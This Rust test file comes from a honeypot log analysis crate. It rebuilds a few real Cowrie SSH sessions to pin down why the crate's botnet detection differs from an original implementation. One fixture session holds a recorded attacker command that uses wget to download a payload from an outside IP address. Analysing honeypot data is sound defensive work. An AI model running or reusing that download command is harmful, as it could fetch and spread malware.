//! The botnet deviation of issue 14 (87 vs 89 IPs with similar commands on the real 22,238-session
//! corpus), reduced to the sessions that cause it: which of an IP's sessions stands for the IP's
//! command text. The original keeps the last one in the order it is handed the sessions; this
//! crate keeps the earliest (start, then session id), whatever the input order.
//! `bench/analysis/botnet_deviation.py` shows the same on the whole corpus with the original's
//! own code (docs/analysis.md, "Botnet command text per IP").

use analysis::{BotnetParams, BotnetResult, EventOptions, Session, botnet, sessions_from_events};
use serde_json::{Value, json};

/// One real session of the kareiva/cowrie-logs corpus (session id, source IP, start, commands),
/// reduced to connect, commands and close.
fn session_events(sid: &str, ip: &str, start: &str, commands: &[&str]) -> Vec<Value> {
    let t0 = chrono::DateTime::parse_from_rfc3339(start).unwrap();
    let ts = |s: i64| (t0 + chrono::Duration::seconds(s)).to_rfc3339();
    let mut evs = vec![json!({"eventid": "cowrie.session.connect", "session": sid,
        "src_ip": ip, "timestamp": ts(0), "protocol": "ssh", "sensor": "s"})];
    for (i, c) in commands.iter().enumerate() {
        evs.push(
            json!({"eventid": "cowrie.command.input", "session": sid, "src_ip": ip,
            "timestamp": ts(1 + i as i64), "input": c}),
        );
    }
    evs.push(
        json!({"eventid": "cowrie.session.closed", "session": sid, "src_ip": ip,
        "timestamp": ts(30), "duration": 30.0}),
    );
    evs
}

/// The two IPs of the deviation with their real sessions, plus unrelated IPs so the analysis runs
/// (at least 10 sessions and 5 IPs). `swap` moves 66.79.183.91's `free -m` session before its
/// `wget` session, which is what the original sees when handed the sessions in session-id order
/// (f7528b6e6ed6 comes after 9c7df2ea7535, so it is the last one it meets).
fn corpus(swap: bool) -> Vec<Session> {
    let (wget_at, free_at) = if swap {
        ("2018-05-17T04:25:48.037725Z", "2018-05-17T02:26:18.532248Z")
    } else {
        ("2018-05-17T02:26:18.532248Z", "2018-05-17T04:25:48.037725Z")
    };
    let mut evs = Vec::new();
    evs.extend(session_events(
        "9c7df2ea7535",
        "66.79.183.91",
        wget_at,
        &["wget http://43.251.117.251:8080/33"],
    ));
    evs.extend(session_events(
        "f7528b6e6ed6",
        "66.79.183.91",
        free_at,
        &["free -m"],
    ));
    evs.extend(session_events(
        "17253340e832",
        "114.64.249.65",
        "2018-06-08T17:35:24.643049Z",
        &["free -m"],
    ));
    let others = [
        ("a00000000001", "203.0.113.1", "uname -a"),
        ("a00000000002", "203.0.113.2", "cat /proc/cpuinfo"),
        ("a00000000003", "203.0.113.3", "ps aux"),
        ("a00000000004", "203.0.113.4", "echo hello"),
        ("a00000000005", "203.0.113.5", "history"),
        ("a00000000006", "203.0.113.6", "nproc"),
        ("a00000000007", "203.0.113.7", "id"),
    ];
    for (i, (sid, ip, cmd)) in others.iter().enumerate() {
        let start = format!("2018-05-2{i}T10:00:00Z");
        evs.extend(session_events(sid, ip, &start, &[cmd]));
    }
    let (sessions, errors) = sessions_from_events(&evs, EventOptions::default());
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(sessions.len(), 10);
    sessions
}

fn run(sessions: &[Session]) -> BotnetResult {
    botnet(
        sessions,
        24.0 * 56.0,
        &BotnetParams::default(),
        &mut analysis::no_progress(),
    )
    .unwrap()
}

#[test]
fn earliest_session_stands_for_an_ip_whatever_the_input_order() {
    let sessions = corpus(false);
    let r = run(&sessions);
    assert!(r.error.is_none(), "{:?}", r.error);
    // 66.79.183.91 is represented by its earliest session (wget), so 114.64.249.65's `free -m`
    // has no partner: neither IP is similar (the crate's 87 on the real corpus).
    assert!(
        r.similar_command_ips.is_empty(),
        "{:?}",
        r.similar_command_ips
    );
    // The input order does not matter (the original's result does depend on it).
    let mut reversed = sessions.clone();
    reversed.reverse();
    assert_eq!(run(&reversed), r);
    let mut rotated = sessions.clone();
    rotated.rotate_left(4);
    assert_eq!(run(&rotated), r);
}

#[test]
fn the_original_s_session_id_order_choice_makes_both_ips_similar() {
    // When the `free -m` session is 66.79.183.91's earliest, the crate picks it, and both IPs
    // become similar (cosine 1.0): the original's 89 on the real corpus in session-id order.
    let r = run(&corpus(true));
    assert_eq!(
        r.similar_command_ips,
        vec!["114.64.249.65".to_string(), "66.79.183.91".to_string()]
    );
    assert!(r.indicators.commands.has_similar_commands);
}
